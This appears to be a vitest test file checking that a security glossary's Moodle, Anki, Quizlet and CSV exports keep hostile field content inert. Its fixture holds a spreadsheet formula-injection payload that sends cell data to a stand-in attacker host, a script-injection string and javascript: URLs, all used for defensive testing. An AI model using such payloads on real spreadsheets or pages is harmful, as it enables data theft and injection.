import * as cheerio from 'cheerio';
import { describe, expect, test } from 'vitest';
import { neutraliseFormula } from '../../src/text/formula.ts';
import {
  ANKI_COLUMNS,
  ankiText,
  moodleGlossaryXml,
  packCsv,
  PACK_CSV_COLUMNS,
  quizletText,
} from '../../src/packs/exports.ts';
import type { PackTerm } from '../../src/packs/pack-term.ts';
import {
  children,
  elementNames,
  moodleEntries,
  parseCsv,
  readAnkiRow,
  text,
  xmlize,
  type Xmlized,
} from '../helpers/pack-formats.ts';
import { packTerm } from '../helpers/pack-term.ts';
import { t } from '../../src/i18n/ui.ts';

const LABELS = {
  example: t('export.example'),
  attack: t('export.attack'),
  tactics: t('export.tactics'),
  fullEntry: t('export.fullEntry'),
};

// A URL with a query in the exports, whose & must be escaped in XML and HTML.
const term = (over: Partial<PackTerm> = {}): PackTerm =>
  packTerm({
    qualifier: 'ATT&CK technique',
    category: { slug: 'execution', name: 'Execution' },
    url: 'https://glossary.example.org/terms/powershell/?ref=pack&lang=en',
    ...over,
  });

// Everything a field could carry to break a format: markup, entities, CDATA ends, quotes, separators, a
// spreadsheet formula, a control character, a lone surrogate, emoji and non-ASCII letters.
const HOSTILE = `=HYPERLINK("https://evil.example/?d="&A2,"x") <script>alert(1)</script> & ]]> "dq" 'sq' a\tb\nc\r\nd \u0001\uD800 🔐 Ünïcödé`;

const hostileTerm = (over: Partial<PackTerm> = {}): PackTerm =>
  term({
    slug: HOSTILE,
    title: HOSTILE,
    qualifier: HOSTILE,
    category: { slug: HOSTILE, name: HOSTILE },
    summary: HOSTILE,
    aliases: [HOSTILE, `${HOSTILE} alias`],
    attack: { id: HOSTILE, domain: HOSTILE, kind: HOSTILE },
    tactics: [HOSTILE],
    example: HOSTILE,
    ...over,
  });

// Excel, LibreOffice and Google Sheets run a cell starting with one of these as a formula.
const RUNS_AS_FORMULA = /^[\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n\0]/;
// Characters outside XML 1.0's Char production (lone surrogates included, thanks to the u flag).
const NOT_XML_CHAR = /[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u;

/** The text as it reads once tabs and line breaks are spaces and control characters are gone. */
const flat = (text: string) =>
  text
    .replace(/\r\n?/g, '\n')
    .replace(/[\u0001\uD800]/g, '')
    .replace(/[\t\n]/g, ' ');

describe('neutraliseFormula', () => {
  test.each([
    ['=1+2', "'=1+2"],
    ['+cmd', "'+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(1)', "'@SUM(1)"],
    ['＝1+2', "'＝1+2"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠1', "'＠1"],
    ['  =1+2', "'  =1+2"],
    ['\t1', "'\t1"],
    ['\r1', "'\r1"],
    ['\n1', "'\n1"],
    ['PowerShell', 'PowerShell'],
    ['a=b', 'a=b'],
    ['T1059.001', 'T1059.001'],
    ['', ''],
  ])('turns %j into %j', (input, expected) => {
    expect(neutraliseFormula(input)).toBe(expected);
  });
});

describe('moodleGlossaryXml', () => {
  test('writes the glossary settings import.php reads when it creates a new glossary', () => {
    const xml = moodleGlossaryXml([term()], { name: 'Week 3: Execution', intro: 'Terms for week 3.', labels: LABELS });
    const info = children(xmlize(xml)['GLOSSARY']!['#'], 'INFO');
    // Read by import.php without an isset() check, so each must be there.
    for (const tag of ['NAME', 'GLOBALGLOSSARY', 'INTRO', 'SHOWSPECIAL', 'SHOWALPHABET', 'SHOWALL'])
      expect(info[tag]).toHaveLength(1);
    expect(text(info, 'NAME')).toBe('Week 3: Execution');
    expect(text(info, 'INTRO')).toBe('<p>Terms for week 3.</p>');
    expect(text(info, 'INTROFORMAT')).toBe('1');
    expect(text(info, 'DISPLAYFORMAT')).toBe('dictionary');
    expect(text(info, 'USEDYNALINK')).toBe('1');
  });

  test('writes each entry where import.php looks for it, with the linking flags set', () => {
    const [entry] = moodleEntries(moodleGlossaryXml([term()], { name: 'Pack', labels: LABELS }));
    expect(text(entry!, 'CONCEPT')).toBe('PowerShell');
    expect(text(entry!, 'FORMAT')).toBe('1');
    expect(text(entry!, 'USEDYNALINK')).toBe('1');
    expect(text(entry!, 'FULLMATCH')).toBe('1');
    expect(text(entry!, 'CASESENSITIVE')).toBe('0');
    expect(text(entry!, 'TEACHERENTRY')).toBe('1');
    const aliases = children(entry!, 'ALIASES')['ALIAS']!.map((alias) => text(alias['#'] as Xmlized, 'NAME'));
    expect(aliases).toEqual(['pwsh', 'T1059.001']);
    const [category] = children(entry!, 'CATEGORIES')['CATEGORY']!.map((c) => c['#'] as Xmlized);
    expect(text(category!, 'NAME')).toBe('Execution');
    expect(text(category!, 'USEDYNALINK')).toBe('0');
    expect(children(entry!, 'TAGS')['TAG']!.map((tag) => tag['#'])).toEqual(['execution', 'T1059.001', 'TA0002']);
  });

  test('writes a definition that decodes to the intended HTML, linking back to the term page', () => {
    const [entry] = moodleEntries(moodleGlossaryXml([term()], { name: 'Pack', labels: LABELS }));
    const definition = text(entry!, 'DEFINITION');
    expect(definition).toBe(
      '<p>Running commands through the PowerShell interpreter.</p>' +
        '<p><em>ATT&amp;CK technique</em></p>' +
        '<p>Example: powershell -enc &lt;base64&gt;</p>' +
        '<p>MITRE ATT&amp;CK: T1059.001</p>' +
        '<p>Tactics: TA0002</p>' +
        '<p>Full entry: <a href="https://glossary.example.org/terms/powershell/?ref=pack&amp;lang=en">PowerShell</a></p>',
    );
    expect(cheerio.load(definition)('a').attr('href')).toBe(term().url);
  });

  test('keeps hostile content as text in every field: no element, no control character, nothing lost', () => {
    const xml = moodleGlossaryXml([hostileTerm()], { name: HOSTILE, intro: HOSTILE, labels: LABELS });
    expect(xml).not.toMatch(NOT_XML_CHAR);
    expect(elementNames(xml)).toEqual(
      new Set([
        'GLOSSARY',
        'INFO',
        'NAME',
        'INTRO',
        'INTROFORMAT',
        'ALLOWDUPLICATEDENTRIES',
        'DISPLAYFORMAT',
        'SHOWSPECIAL',
        'SHOWALPHABET',
        'SHOWALL',
        'ALLOWCOMMENTS',
        'USEDYNALINK',
        'DEFAULTAPPROVAL',
        'GLOBALGLOSSARY',
        'ENTBYPAGE',
        'ENTRIES',
        'ENTRY',
        'CONCEPT',
        'DEFINITION',
        'FORMAT',
        'CASESENSITIVE',
        'FULLMATCH',
        'TEACHERENTRY',
        'ALIASES',
        'ALIAS',
        'CATEGORIES',
        'CATEGORY',
        'TAGS',
        'TAG',
      ]),
    );
    const info = children(xmlize(xml)['GLOSSARY']!['#'], 'INFO');
    expect(text(info, 'NAME')).toBe(flat(HOSTILE).trim());
    const [entry] = moodleEntries(xml);
    expect(text(entry!, 'CONCEPT')).toBe(flat(HOSTILE).trim());
    const aliases = children(entry!, 'ALIASES')['ALIAS']!.map((alias) => text(alias['#'] as Xmlized, 'NAME'));
    expect(aliases).toEqual([`${flat(HOSTILE)} alias`]);
    const [category] = children(entry!, 'CATEGORIES')['CATEGORY']!.map((c) => c['#'] as Xmlized);
    expect(text(category!, 'NAME')).toBe(flat(HOSTILE).trim());

    // The definition is HTML once decoded; the hostile text must be text in it, and the only link ours.
    const $ = cheerio.load(text(entry!, 'DEFINITION'));
    expect(
      new Set(
        $('body *')
          .map((_, el) => el.tagName)
          .get(),
      ),
    ).toEqual(new Set(['p', 'em', 'br', 'a']));
    expect($('script')).toHaveLength(0);
    expect(
      $('a')
        .map((_, a) => $(a).attr('href'))
        .get(),
    ).toEqual([term().url]);
    expect($('p').first().text()).toBe(
      HOSTILE.replace(/\r\n?/g, '\n')
        .replace(/[\u0001\uD800]/g, '')
        .replace(/\n/g, ''),
    );
  });

  test('qualifies a title two picked terms share, and keeps the bare title as a keyword', () => {
    const entries = moodleEntries(
      moodleGlossaryXml([term({ aliases: [] }), term({ slug: 'powershell-tool', qualifier: 'Tool', aliases: [] })], {
        name: 'Pack',
        labels: LABELS,
      }),
    );
    expect(entries.map((entry) => text(entry, 'CONCEPT'))).toEqual([
      'PowerShell (ATT&CK technique)',
      'PowerShell (Tool)',
    ]);
    for (const entry of entries)
      expect(children(entry, 'ALIASES')['ALIAS']!.map((a) => text(a['#'] as Xmlized, 'NAME'))).toEqual(['PowerShell']);
  });

  test('drops blank and repeated aliases and those equal to the concept', () => {
    const [entry] = moodleEntries(
      moodleGlossaryXml([term({ aliases: ['', '  ', 'powershell', 'pwsh', 'PWSH '] })], {
        name: 'Pack',
        labels: LABELS,
      }),
    );
    expect(children(entry!, 'ALIASES')['ALIAS']!.map((a) => text(a['#'] as Xmlized, 'NAME'))).toEqual(['pwsh']);
  });

  test.each([
    [['Remote Access Trojan', 'RAT'], '1'],
    [['Component Object Model', 'COM'], '1'],
    [['ATT&CK'], '1'],
    [['PowerShell', 'pwsh', 'T1059.001'], '0'],
  ])('matches %j with CASESENSITIVE %s', ([title, ...aliases], expected) => {
    const [entry] = moodleEntries(
      moodleGlossaryXml([term({ title: title!, aliases })], { name: 'Pack', labels: LABELS }),
    );
    expect(text(entry!, 'CASESENSITIVE')).toBe(expected);
  });

  /**
   * What Moodle's glossary filter links in course text: every concept and alias of an entry with USEDYNALINK 1,
   * as a whole word when FULLMATCH is 1 (filter_glossary builds filterobjects with these flags; lib/filterlib.php
   * matches them with word boundaries), ignoring case unless CASESENSITIVE is 1.
   */
  const moodleLinks = (xml: string, courseText: string): string[] =>
    moodleEntries(xml).flatMap((entry) => {
      if (text(entry, 'USEDYNALINK') !== '1') return [];
      const names = [
        text(entry, 'CONCEPT'),
        ...(children(entry, 'ALIASES')['ALIAS'] ?? []).map((a) => text(a['#'] as Xmlized, 'NAME')),
      ];
      const flags = text(entry, 'CASESENSITIVE') === '1' ? 'u' : 'iu';
      return names.flatMap((name) => {
        const escaped = name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
        const pattern =
          text(entry, 'FULLMATCH') === '1' ? `(?<![\\p{L}\\p{N}_])${escaped}(?![\\p{L}\\p{N}_])` : escaped;
        return [...courseText.matchAll(new RegExp(pattern, `g${flags}`))].map((m) => m[0]);
      });
    });

  test('words a course uses in every sentence are not linked: "at", two-letter names, everyday words in lower case', () => {
    const xml = moodleGlossaryXml(
      [
        term({ slug: 'at', title: 'At', aliases: ['at.exe', 'T1053.002'] }),
        term({ slug: 'impact', title: 'Impact', aliases: ['TA0040'] }),
        term({ slug: 'loader', title: 'Loader', aliases: ['malware loader'] }),
        term({ slug: 'component-object-model', title: 'Component Object Model', aliases: ['COM'] }),
      ],
      { name: 'Pack', labels: LABELS },
    );
    const course =
      'At nine we look at the logs. The impact of at.exe on the lab: a loader truck waits. A Loader ran; Impact is a tactic. Visit example.com or read about COM.';
    // "At" is off altogether: the concept itself would match "At nine", so its aliases are not auto-linked either.
    expect(moodleLinks(xml, course)).toEqual(['Impact', 'Loader', 'COM']);
  });

  test('leaves ENTRIES out of an empty pack, as Moodle does', () => {
    const info = children(xmlize(moodleGlossaryXml([], { name: 'Pack', labels: LABELS }))['GLOSSARY']!['#'], 'INFO');
    expect(info['ENTRIES']).toBeUndefined();
  });

  test('refuses a pack without a name, which Moodle would refuse too', () => {
    expect(() => moodleGlossaryXml([term()], { name: ' \u0001 ', labels: LABELS })).toThrow(/needs options\.name/);
  });

  test.each(['javascript:alert(1)', '/terms/powershell/', 'data:text/html,x'])('refuses the term url %j', (url) => {
    expect(() => moodleGlossaryXml([term({ url })], { name: 'Pack', labels: LABELS })).toThrow(
      /not an absolute http\(s\) URL/,
    );
  });
});

function parseAnki(file: string) {
  const lines = file.split('\n');
  expect(lines.pop()).toBe('');
  const headerLines = lines.filter((line) => line.startsWith('#'));
  // Headers must come first: Anki stops reading them at the first line that is not one.
  expect(lines.slice(0, headerLines.length)).toEqual(headerLines);
  const headers = Object.fromEntries(
    headerLines.map((line) => [line.slice(1, line.indexOf(':')), line.slice(line.indexOf(':') + 1)]),
  );
  const rows = lines.slice(headerLines.length).map(readAnkiRow);
  return { headers, rows };
}

describe('ankiText', () => {
  test('declares separator, HTML, note type, deck and tags columns and column names in the header', () => {
    const { headers } = parseAnki(ankiText([term()], { deck: 'Security::Week 3', labels: LABELS }));
    expect(headers).toEqual({
      separator: 'tab',
      html: 'true',
      notetype: 'Basic',
      'deck column': '4',
      'tags column': '5',
      columns: 'Front\tBack\tLink\tDeck\tTags',
    });
  });

  test('writes one note per term with the fields in the declared columns', () => {
    const { headers, rows } = parseAnki(
      ankiText([term(), term({ slug: 'b', title: 'Bash', attack: null, tactics: [], example: '' })], {
        deck: 'Security::Week 3',
        labels: LABELS,
      }),
    );
    expect(rows).toHaveLength(2);
    for (const row of rows) expect(row).toHaveLength(headers['columns']!.split('\t').length);
    const [front, back, link, deck, tags] = rows[0]!;
    expect(front).toBe('PowerShell (ATT&amp;CK technique)');
    expect(back).toBe(
      'Running commands through the PowerShell interpreter.<br><br>Example: powershell -enc &lt;base64&gt;<br><br>' +
        'MITRE ATT&amp;CK: T1059.001<br><br><a href="https://glossary.example.org/terms/powershell/?ref=pack&amp;lang=en">Full entry: PowerShell</a>',
    );
    expect(cheerio.load(link!)('a').attr('href')).toBe(term().url);
    expect(deck).toBe('Security::Week 3');
    expect(tags).toBe('execution T1059.001 TA0002');
    expect(rows[1]![4]).toBe('execution');
    expect(ANKI_COLUMNS).toEqual(['Front', 'Back', 'Link', 'Deck', 'Tags']);
  });

  test('keeps every row whole and every field inert with hostile content in all of them', () => {
    const file = ankiText([hostileTerm(), hostileTerm({ title: '# not a comment' })], {
      deck: `${HOSTILE} "deck"`,
      labels: LABELS,
    });
    expect(file).not.toMatch(NOT_XML_CHAR);
    const { headers, rows } = parseAnki(file);
    expect(rows).toHaveLength(2);
    for (const row of rows) {
      expect(row).toHaveLength(headers['columns']!.split('\t').length);
      for (const cell of row) expect(cell).not.toMatch(RUNS_AS_FORMULA);
      const [front, back, link] = row;
      for (const html of [front!, back!, link!]) {
        const $ = cheerio.load(html);
        expect($('script')).toHaveLength(0);
        for (const name of $('body *')
          .map((_, el) => el.tagName)
          .get())
          expect(['br', 'a']).toContain(name);
        expect(
          $('a')
            .map((_, a) => $(a).attr('href'))
            .get()
            .every((href) => href === term().url),
        ).toBe(true);
      }
      // Text survives: the leading quote is the spreadsheet guard, the rest decodes to the original.
      expect(cheerio.load(back!).text()).toContain('<script>alert(1)</script> & ]]> "dq" \'sq\'');
      expect(cheerio.load(back!).text()).toContain('🔐 Ünïcödé');
      expect(row[3]).toBe(`'${flat(HOSTILE)} "deck"`);
      expect(row[4]!.split(' ').every((tag) => /^[\p{L}\p{N}_][\p{L}\p{N}_.-]*$/u.test(tag))).toBe(true);
    }
    // A row starting with "#" would be a comment to Anki and vanish.
    expect(rows[1]![0]!.startsWith('&#35; not a comment (')).toBe(true);
  });

  test.each([' ', '\u0001', '2024'])('refuses the deck name %j', (deck) => {
    expect(() => ankiText([term()], { deck, labels: LABELS })).toThrow(/ankiText (needs options\.deck|got deck)/);
  });
});

describe('quizletText', () => {
  test('writes term, tab, definition, one card per line', () => {
    expect(quizletText([term(), term({ title: 'Bash', qualifier: '', attack: null })], { labels: LABELS })).toBe(
      'PowerShell (ATT&CK technique)\tRunning commands through the PowerShell interpreter. (MITRE ATT&CK: T1059.001)\n' +
        'Bash\tRunning commands through the PowerShell interpreter.',
    );
  });

  test('keeps exactly one tab on each line with hostile content, and no formula', () => {
    const lines = quizletText([hostileTerm(), hostileTerm()], { labels: LABELS }).split('\n');
    expect(lines).toHaveLength(2);
    for (const line of lines) {
      expect(line.split('\t')).toHaveLength(2);
      expect(line).not.toMatch(NOT_XML_CHAR);
      for (const field of line.split('\t')) expect(field).not.toMatch(RUNS_AS_FORMULA);
      expect(line.split('\t')[0]).toBe(`'${flat(HOSTILE)} (${flat(HOSTILE)})`);
    }
  });

  test('writes nothing for an empty pack', () => {
    expect(quizletText([], { labels: LABELS })).toBe('');
  });
});

describe('packCsv', () => {
  test('writes the header and one row per term in the pack’s order, in the columns it names', () => {
    const csv = packCsv([
      term(),
      term({ slug: 'bash', number: 30, title: 'Bash', attack: null, tactics: [], aliases: [] }),
    ]);
    expect(csv.startsWith('\uFEFF'), 'a byte-order mark, for Excel').toBe(true);
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual([...PACK_CSV_COLUMNS]);
    expect(rows).toHaveLength(3);
    const row = Object.fromEntries(PACK_CSV_COLUMNS.map((column, i) => [column, rows[1]![i]]));
    expect(row).toEqual({
      number: '12',
      title: 'PowerShell',
      qualifier: 'ATT&CK technique',
      category: 'Execution',
      summary: 'Running commands through the PowerShell interpreter.',
      aliases: 'pwsh; T1059.001',
      attack_id: 'T1059.001',
      tactics: 'TA0002',
      example: 'powershell -enc <base64>',
      url: 'https://glossary.example.org/terms/powershell/?ref=pack&lang=en',
      short_url: 'https://glossary.example.org/n/12/',
    });
    expect(rows[2]!.slice(0, 2)).toEqual(['30', 'Bash']);
  });

  test('keeps hostile text in its cell, with formulas neutralised as in the site’s CSV', () => {
    const rows = parseCsv(packCsv([hostileTerm({ slug: 'x', tactics: ['TA0002'] })]));
    expect(rows).toHaveLength(2);
    expect(rows[1]).toHaveLength(PACK_CSV_COLUMNS.length);
    for (const cell of rows[1]!) expect(cell).not.toMatch(RUNS_AS_FORMULA);
    expect(rows[1]![1]).toBe(`'${HOSTILE.replace(/\r\n?/g, '\n').replace(/[\u0001\uD800]/g, '')}`);
  });
});
